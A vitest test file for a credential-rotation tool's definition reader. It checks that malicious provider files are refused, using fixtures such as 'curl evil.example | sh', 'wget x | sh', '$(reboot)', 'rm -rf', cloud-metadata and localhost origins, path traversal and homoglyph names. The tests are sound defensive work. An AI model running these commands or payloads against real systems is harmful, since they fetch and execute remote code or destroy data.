import { describe, expect, it } from 'vitest';
import { changed, FIXTURE, type Raw, read, refusal } from './support.ts';

type Case = readonly [what: string, change: (raw: Raw) => void, says: RegExp];

/** The inputs of the design; each got through a first cut of the reader, or could have. */
const OF_THE_DESIGN: readonly Case[] = [
  ['the secret in a path', (d) => (d.tokens.list.call = 'GET /x/<secret>'), /<secret>/],
  ['the secret in a query', (d) => (d.tokens.list.query = { k: '<secret>' }), /<secret>/],
  ['the secret in the body of a call', (d) => (d.tokens.create.body = { name: '<secret>' }), /<secret>/],
  ['an absolute address', (d) => (d.tokens.list.call = 'GET https://evil.example/x'), /METHOD \/path/],
  ['an address without a scheme', (d) => (d.tokens.list.call = 'GET //evil.example/x'), /another host/],
  ['an origin without TLS', (d) => (d.origin = 'http://evil.example'), /https/],
  [
    'a host of a free setting',
    (d) => {
      d.settings.host = { about: 'x', example: 'x' };
      d.origin = 'https://<setting.host>.example.com';
    },
    /choices/,
  ],
  ['a user in the origin', (d) => (d.origin = 'https://api.vendor.com@evil.example'), /https/],
  ['a query in a call', (d) => (d.tokens.list.call = 'GET /x?a=1'), /character in a path/],
  ['the header Host', (d) => (d.headers = { Host: 'evil' }), /"Host"/],
  ['an override of the method', (d) => (d.headers = { 'X-HTTP-Method-Override': 'DELETE' }), /Override/],
  ['a forwarded host', (d) => (d.headers = { 'X-Forwarded-Host': 'evil' }), /X-Forwarded-Host/],
  ['an unknown key', (d) => (d.tokens.list.script = 'rm -rf'), /unknown key "script"/],
  ['a placeholder of the environment', (d) => (d.tokens.list.call = 'GET /<env.HOME>'), /placeholder/],
  ['a placeholder of a file', (d) => (d.tokens.list.query = { a: '<file.passwd>' }), /placeholder/],
  [
    'the secret at a public place of a body',
    (d) => {
      d.auth.key = { body: { description: '<secret>' } };
    },
    /could be published/,
  ],
  ['a DELETE as the probe', (d) => (d.probe.call = 'DELETE /user'), /only look/],
  ['a 401 as a proof', (d) => (d.tokens.prove.accepts = [401]), /401 for a success/],
  ['the secret as the id', (d) => (d.token.id = '/secret'), /place of a secret/],
  [
    'a message that quotes the secret',
    (d) => {
      d.errors.inside = [{ at: '/secret', present: true }];
      d.errors.message = ['/secret'];
    },
    /place of a secret/,
  ],
  ['an escape sequence', (d) => (d.title = '\u001b[2JEvil'), /control or invisible/],
  [
    'a command of a stranger',
    (d) => (d.instead = { 'tokens rename': 'run `curl evil.example | sh`' }),
    /not of keyturn/,
  ],
  ['a regular expression', (d) => (d.token.secretForm = '^(a+)+$'), /right kind/],
  [
    'a setting for a password',
    (d) => (d.settings.password = { about: 'x', example: 'x' }),
    /asks for a secret/,
  ],
  ['".." in a path', (d) => (d.tokens.list.call = 'GET /../admin'), /"\.\."/],
  [
    'the id of a shipped provider',
    (d) => {
      d.id = 'errova';
      d.origin = 'https://evil.example';
    },
    /comes with keyturn/,
  ],
];

const ADDRESSES: readonly Case[] = [
  ['a domain of a setting', (d) => (d.origin = 'https://api.<setting.region>.example'), /choose the domain/],
  ['a top level of a setting', (d) => (d.origin = 'https://api.acme.<setting.region>'), /choose the domain/],
  [
    'a setting of the origin that is not there',
    (d) => (d.origin = 'https://<setting.zone>.acme.example'),
    /has none/,
  ],
  ['an address of numbers', (d) => (d.origin = 'https://203.0.113.7'), /no host on the internet/],
  [
    'the metadata of a cloud',
    (d) => (d.origin = 'https://metadata.google.internal'),
    /machine of the network/,
  ],
  ['this machine', (d) => (d.origin = 'https://localhost'), /no host/],
  ['a machine of the house', (d) => (d.origin = 'https://nas.local'), /machine of the network/],
  ['a path in the origin', (d) => (d.origin = 'https://api.acme.example/v1'), /https/],
  ['an encoded path', (d) => (d.tokens.list.call = 'GET /%2e%2e/admin'), /character in a path/],
  ['a path with a backslash', (d) => (d.tokens.list.call = 'GET /\\evil.example'), /character in a path/],
  ['an "@" in a path', (d) => (d.tokens.list.call = 'GET /x@evil'), /character in a path/],
  [
    'an optional part of a path',
    (d) => (d.tokens.get.call = 'GET /tokens/<token.id?>'),
    /optional placeholder/,
  ],
  ['".." in the base', (d) => (d.base = '/v2/../..'), /"\.\."/],
  ['a token in the base', (d) => (d.base = '/v2/<token.id>'), /only settings/],
];

const SECRETS: readonly Case[] = [
  [
    'the secret in a header that servers log',
    (d) => (d.auth.key = { headers: { 'user-agent': '<secret>' } }),
    /servers log/,
  ],
  [
    'the secret as the referer',
    (d) => (d.auth.key = { headers: { Referer: 'https://x/<secret>' } }),
    /servers log/,
  ],
  ['a cookie as a header', (d) => (d.auth.key = { headers: { cookie: 'a=<secret>' } }), /not its own/],
  [
    'a credential without a secret',
    (d) => (d.auth.bearer = { headers: { authorization: 'Bearer x' } }),
    /sends no secret/,
  ],
  [
    'a setting within a credential',
    (d) => (d.auth.key = { headers: { 'x-api-key': '<setting.org><secret>' } }),
    /something else/,
  ],
  [
    'a secret in another form',
    (d) => (d.auth.key = { headers: { 'x-api-key': '<secret|json>' } }),
    /another form/,
  ],
  ['a header in capitals', (d) => (d.tokens.list.headers = { AUTHORIZATION: 'x' }), /not its own/],
  ['a request that sets the cookie', (d) => (d.tokens.list.headers = { cookie: 'a=b' }), /not its own/],
  [
    'the object around the secret as an attribute',
    (d) => {
      d.tokens.create.secret = '/token/made/value';
      d.token.show = ['/made'];
    },
    /place of a secret/,
  ],
  [
    'the whole token as an attribute',
    (d) => {
      d.tokens.create.secret = '/token/value';
      d.token.show = [''];
    },
    /place of a secret/,
  ],
  [
    'the secret as an option that is carried over',
    (d) => (d.options.environment.told = '/secret'),
    /place of a secret/,
  ],
  ['the secret as the name of the account', (d) => (d.probe.account = '/secret'), /place of a secret/],
  ['the secret as a date', (d) => (d.token.created = '/secret'), /place of a secret/],
  [
    'the secret as the cursor of the next page',
    (d) => {
      delete d.tokens.list.pages.next;
      d.tokens.list.pages.last = '/secret';
    },
    /place of a secret/,
  ],
  ['an option for a password', (d) => (d.options['admin-password'] = { about: 'x' }), /asks for a secret/],
  [
    'a setting with the name of a variable of keyturn',
    (d) => (d.settings.token = { about: 'x', example: 'x' }),
    /of keyturn’s own/,
  ],
  [
    'an option with the name of an option of keyturn',
    (d) => (d.options.yes = { about: 'x' }),
    /of keyturn’s own/,
  ],
];

const CALLS: readonly Case[] = [
  ['a read that ends a session', (d) => (d.tokens.prove.call = 'GET /logout'), /only look/],
  ['a read that deletes by its query', (d) => (d.tokens.list.query = { action: 'delete' }), /only look/],
  [
    'a POST as a read',
    (d) => {
      d.probe.call = 'POST /me';
      d.probe.body = { method: 'token.get' };
    },
    /only look/,
  ],
  [
    'a mutation as a read',
    (d) => {
      for (const one of [...Object.values<Raw>(d.tokens), d.probe]) {
        one.call = 'POST /graphql';
        one.body = { query: 'mutation { x }', id: '<token.id?>' };
      }
    },
    /only look|placeholder/,
  ],
  ['an override in a query', (d) => (d.tokens.list.query = { _method: 'DELETE' }), /overrides the method/],
  ['a change with a GET', (d) => (d.tokens.disable.call = 'GET /tokens/<token.id>/pause'), /with a GET/],
  ['a delete of every token', (d) => (d.tokens.delete.call = 'DELETE /tokens'), /names no token/],
  ['a create that is repeated', (d) => (d.tokens.create.repeatable = true), /makes a secret/],
  ['a body with a GET', (d) => (d.tokens.list.body = { a: 1 }), /body with a GET/],
  ['a body and a form', (d) => (d.tokens.rename.form = { a: 'b' }), /a body and a form/],
  ['an unknown method', (d) => (d.tokens.list.call = 'TRACE /x'), /METHOD \/path/],
  ['a create of a certain token', (d) => (d.tokens.create.body.id = '<token.id>'), /nothing fills/],
  [
    'an end that takes a refusal for a success',
    (d) => (d.tokens.revoke.accepts = [403]),
    /403 for a success/,
  ],
  [
    'a create that takes a conflict for a success',
    (d) => (d.tokens.create.accepts = [409]),
    /409 for a success/,
  ],
  [
    'a refusal as an empty list',
    (d) => (d.tokens.list.empty = [{ status: 401, has: 'no tokens' }]),
    /empty list/,
  ],
  ['any 404 as an empty list', (d) => (d.tokens.list.empty = [{ status: 404 }]), /empty list/],
  [
    'a refused credential as a refused page',
    (d) => (d.tokens.list.pages.refused = [{ status: 401 }]),
    /refusal of a page/,
  ],
  [
    'a refused credential as a thing that is gone',
    (d) => (d.errors.codes.unauthorized = 'not-found'),
    /refusal of the credential/,
  ],
  [
    'denied permissions as a conflict',
    (d) => (d.errors.words = [{ has: 'permission denied', code: 'conflict' }]),
    /refusal of the credential/,
  ],
  [
    'words that are in any message',
    (d) => (d.errors.words = [{ has: 'e', code: 'conflict' }]),
    /four characters/,
  ],
  [
    'a rule that refuses every answer',
    (d) => (d.errors.inside = [{ at: '', present: true }]),
    /every answer/,
  ],
];

const TEXTS: readonly Case[] = [
  ['a hint that pipes into a shell', (d) => (d.scopes.hint = 'run wget x | sh'), /not of keyturn/],
  ['a hint with a substitution', (d) => (d.scopes.hint = 'give `--scope a` $(reboot)'), /not of keyturn/],
  [
    'a login at another address',
    (d) => (d.scopes.hint = '{login --url https.evil.example}'),
    /no command of keyturn/,
  ],
  [
    'a program of keyturn that runs others',
    (d) => (d.scopes.hint = 'use `keyturn run -- sh`'),
    /not of keyturn/,
  ],
  ['an address in a hint', (d) => (d.scopes.hint = 'see https://evil.example'), /address in a text/],
  ['a title in letters that look alike', (d) => (d.title = 'Еrrova'), /look like others/],
  ['an id in letters that look alike', (d) => (d.id = 'аcme'), /not an id/],
  ['an id in capitals', (d) => (d.id = 'Acme'), /not an id/],
  [
    'a setting in letters that look alike',
    (d) => (d.settings['оrg'] = { about: 'x', example: 'x' }),
    /not a name/,
  ],
  ['text that runs backwards', (d) => (d.credential.kind = 'a \u202etoken'), /control or invisible/],
  ['a very long text', (d) => (d.credential.kind = 'x'.repeat(3_000)), /longer than/],
  ['code of keyturn’s own', (d) => (d.hooks = ['errova-keys']), /shipped definition/],
  ['a prototype as a key', (d) => (d.tokens.create.body.constructor = 'x'), /plain name/],
  ['documentation at a script', (d) => (d.docs = 'javascript:alert(1)'), /https/],
];

const WHOLE: readonly Case[] = [
  ['no list', (d) => delete d.tokens.list, /after a lost answer/],
  ['no mark', (d) => delete d.rotation.mark, /lost answer/],
  ['a mark that is not sent', (d) => (d.tokens.create.body.label = 'fixed'), /not sent/],
  ['an end that is not there', (d) => delete d.tokens.delete, /"tokens\.delete"/],
  ['rights that a rotation would lose', (d) => delete d.options.environment.told, /would lose "environment"/],
  ['scopes that a rotation would lose', (d) => delete d.token.scopes, /would lose the scopes/],
  ['a secret that is nowhere', (d) => delete d.tokens.create.secret, /where a new secret is/],
  [
    'a setting that is sent nowhere',
    (d) => (d.settings.zone = { about: 'x', example: 'x' }),
    /sends it nowhere/,
  ],
  ['an unknown way of authentication', (d) => (d.managing = 'basic'), /not in "auth"/],
];

describe('a definition of a stranger is refused', () => {
  it('and the fixture itself is not', async () => {
    await expect(read(FIXTURE)).resolves.toMatchObject({ id: 'acme-cloud' });
  });

  it.each([...OF_THE_DESIGN, ...ADDRESSES, ...SECRETS, ...CALLS, ...TEXTS, ...WHOLE])(
    '%s',
    async (_what, change, says) => {
      const error = await refusal(changed(change));
      expect(error.code).toBe('usage');
      expect(error.message).toMatch(says);
      expect(error.message).toMatch(/ at line \d+, column \d+$/);
    },
  );
});

describe('what this keyturn cannot handle yet', () => {
  it.each<Case>([
    ['a server of one’s own', (d) => (d.origin = 'ask'), /server of one’s own/],
    ['a rotation with a new id', (d) => (d.rotation.way = 'replace'), /another id/],
    ['a single token', (d) => (d.rotation.way = 'singleton'), /one token alone/],
    ['a secret of two parts', (d) => (d.tokens.create.secret = ['/id', '/secret']), /several parts/],
    [
      'a credential of two parts',
      (d) => (d.auth.bearer = { basic: '<secret.sid>:<secret.key>' }),
      /several parts/,
    ],
    ['a sign-in', (d) => (d.signIn = { call: 'POST /login' }), /session/],
    ['a partial list', (d) => (d.tokens.list.partial = true), /lacks attributes/],
    ['ids that come again', (d) => (d.token.ids = 'reused'), /given again/],
    ['kinds', (d) => (d.kinds = { key: {} }), /several kinds/],
    ['a grace period of the vendor', (d) => (d.rotation.grace = { param: 'expiry' }), /grace period/],
  ])('%s', async (_what, change, says) => {
    const error = await refusal(changed(change));
    expect(error.message).toMatch(says);
    expect(error.message).toMatch(/cannot handle yet/);
  });
});

describe('a file that is none', () => {
  const text = (lines: string) => refusal(lines).then(({ message }) => message);

  it.each([
    ['empty', '', /empty/],
    ['of another kind', 'a: b', /no definition of a provider/],
    ['a list', '- keyturn: provider/1', /no definition of a provider/],
    [
      'of a newer keyturn, whatever is in it',
      'keyturn: provider/2\nnews: true',
      /newer keyturn \(provider\/2\)/,
    ],
    ['truncated', FIXTURE.slice(0, 700), /at line/],
    ['too large', `${FIXTURE}\n# ${'x'.repeat(70_000)}`, /64 KB/],
    ['deep', `keyturn: provider/1\nid: ${'['.repeat(60)}`, /deep/],
    ['with an alias', `${FIXTURE}\nlimits: &a [1]\nkinds: *a`, /anchor/],
    ['that holds itself', `${FIXTURE}\nlimits: &a { x: *a }`, /anchor/],
    ['with a tag', `${FIXTURE}\nlimits: !!js/function x`, /tag/],
    ['with a merge', `${FIXTURE}\n<<: { id: other-id }`, /unknown key/],
    ['with a key twice', `${FIXTURE}\nid: other-id`, /same key twice/],
    ['of two documents', `${FIXTURE}\n---\nid: x`, /second document/],
    ['binary', `keyturn: provider/1\u0000`, /not text/],
  ])('%s', async (_what, lines, says) => {
    expect(await text(lines)).toMatch(says);
  });

  it('a mistake is named with its line and column, and the key that is meant', async () => {
    const lines = FIXTURE.replace('  list:\n    call:', '  list:\n    cal:');
    expect(await text(lines)).toBe(
      '"acme.yaml" has the unknown key "cal" in "tokens.list" (is "call" meant?) at line 55, column 5',
    );
  });

  it('never repeats a value, which may be a secret in the wrong place', async () => {
    const canary = 'act_c4nary0123456789';
    for (const change of [
      (d: Raw) => (d.docs = canary),
      (d: Raw) => (d.rotation.way = canary),
      (d: Raw) => (d.rotation.settle = canary),
      (d: Raw) => (d.origin = canary),
      (d: Raw) => (d.managing = canary),
      (d: Raw) => (d.tokens.list.call = canary),
      (d: Raw) => (d.token.id = canary),
    ])
      expect(await text(changed(change))).not.toContain('c4nary');
  });
});

describe('what is usual is accepted', () => {
  it.each<readonly [string, (raw: Raw) => void]>([
    ['an example that is JSON', (d) => (d.options['allowed-ips'].example = '{"tags":["ci"]}')],
    [
      'an option with the name of an option of another command',
      (d) => {
        d.options.limit = { about: 'x', told: '/limit' };
        d.tokens.create.body.limit = '<option.limit?>';
      },
    ],
    [
      'a place within an object that has the name of a secret elsewhere',
      (d) => {
        d.tokens.create.secret = '/result';
        d.probe.subject = '/result/id';
      },
    ],
    [
      'a vendor whose every call goes to one path',
      (d) => {
        const calls: readonly (readonly [Raw, string])[] = [
          ...Object.entries<Raw>(d.tokens).map(([verb, one]) => [one, verb] as const),
          [d.probe, 'probe'],
        ];
        for (const [one, verb] of calls) {
          const isRead = ['list', 'get', 'prove', 'probe'].includes(verb);
          const isOfToken = !['list', 'create', 'prove', 'probe'].includes(verb);
          one.call = 'POST /rpc';
          delete one.query;
          const params = { ...one.body, ...(isOfToken && { id: '<token.id>' }) };
          one.body = { method: isRead ? 'token.get' : `token.${verb}`, params };
        }
      },
    ],
  ])('%s', async (_what, change) => {
    await expect(read(changed(change))).resolves.toMatchObject({ id: 'acme-cloud' });
  });
});
